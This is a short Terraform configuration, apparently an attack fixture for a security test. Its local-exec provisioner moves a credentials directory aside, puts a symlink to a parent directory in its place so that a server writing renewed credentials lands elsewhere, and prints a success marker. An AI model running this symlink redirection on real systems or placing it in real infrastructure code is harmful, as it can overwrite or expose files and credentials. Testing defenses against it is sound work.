# Puts a link in the place of the directory of credentials, into which the server writes renewed ones.

resource "terraform_data" "attack" {
  provisioner "local-exec" {
    interpreter = ["/bin/bash", "-c"]

    command = <<-EOT
      won() { echo "attack-$((40 + 2))-succeeded: $1"; }
      mv ../credentials ../mine 2>/dev/null && ln -s ../.. ../credentials && won "the server would write to $(readlink -f ../credentials)"
    EOT
  }
}
